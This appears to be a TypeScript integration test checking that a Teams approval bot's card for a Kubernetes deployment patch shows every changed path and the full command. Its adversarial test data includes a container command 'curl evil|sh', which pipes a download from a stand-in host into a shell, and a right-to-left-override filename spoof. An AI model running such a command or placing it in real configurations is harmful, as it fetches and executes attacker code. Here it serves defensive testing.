import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { CARD_VERBS } from '../../../src/adapters/teams/render/card-verbs.ts';
import { cardOf, personalInstall, teamInstall } from '../../fakes/fake-teams/teams-activities.ts';
import { RecordingCluster } from '../../fakes/recording-cluster.ts';
import { startRedis, type RedisServer } from '../../harness/redis-server.ts';
import { adversarialChanges, adversarialPatch } from '../../unit/core/changes/adversarial-patch.ts';
import { click, requestIdIn, soon, typeInChat } from './teams-gestures.ts';
import { startTeamsStack, TEAM, TEAMS_CHANNELS, TEAMS_PEOPLE, type TeamsStack } from './teams-stack.ts';

let redis: RedisServer;
let stack: TeamsStack;
const cluster = new RecordingCluster();
const { alice, bob } = TEAMS_PEOPLE;
const PROD = TEAMS_CHANNELS['#prod-approvals']!;
let aliceChat = '';

before(async () => {
  redis = await startRedis();
  cluster.objects.set('prod-payments/Deployment/api', { labels: {}, annotations: {} });
  // The dry run's answer for the adversarial patch (the adapter's own is proven on the real API server in test/integration/kubernetes/actions.test.ts).
  cluster.patchChanges = adversarialChanges;
  stack = await startTeamsStack({ redis, cluster, worker: true });
  assert.equal((await stack.fake.deliver(teamInstall(stack.fake, TEAM, bob))).status, 200);
  aliceChat = stack.fake.connector.addPersonalChat(alice);
  await stack.fake.deliver(personalInstall(stack.fake, alice, aliceChat));
});

after(async () => {
  await stack?.stop();
  await redis?.stop();
});

/** The "Show full change" ShowCard of a posted card, as JSON text; undefined when it has none. */
function fullChangeOf(card: unknown): string | undefined {
  const actions = (card as { actions?: { type: string; id?: string; card?: unknown }[] }).actions ?? [];
  const show = actions.find((a) => a.type === 'Action.ShowCard' && a.id === 'full-change');
  return show ? JSON.stringify(show.card) : undefined;
}

void describe('Teams: Show full change through the real botbuilder adapter (issue 15 item 1)', () => {
  void test('the posted card says how many paths exist and its ShowCard has every path and the whole command, before and after a click', async () => {
    const reply = await typeInChat(
      stack,
      alice,
      aliceChat,
      `k8s-request patch deployment/api -n prod-payments --patch '${JSON.stringify(adversarialPatch)}' --reason "tidy labels"`,
    );
    const id = requestIdIn(reply);
    const card = await stack.fake.connector.waitFor((c) =>
      c.messagesIn(PROD).find((m) => JSON.stringify(cardOf(m)).includes(id)),
    );
    const check = (posted: unknown): void => {
      assert.match(JSON.stringify(posted), /17 changed paths; 10 shown, values shortened/);
      const full = fullChangeOf(posted);
      assert.ok(full, 'the card has Show full change');
      for (const { path } of adversarialChanges) assert.ok(full.includes(path), `${path} is in the ShowCard`);
      assert.ok(full.includes('curl evil|sh'), 'the container command');
      assert.ok(
        full.includes('\\\\u202egnp.exe and then some more words to pass sixty'),
        'the long value, whole',
      );
    };
    check(cardOf(card));

    assert.equal((await click(stack, bob, card, CARD_VERBS.approve)).kind, 'card');
    const updated = await soon('the shared card to show the approval', () => {
      const current = stack.fake.connector.posted.find((p) => p.id === card.id);
      const shown = current ? cardOf(current) : undefined;
      return shown && /Approved by bob/.test(JSON.stringify(shown)) ? shown : undefined;
    });
    check(updated);
  });
});
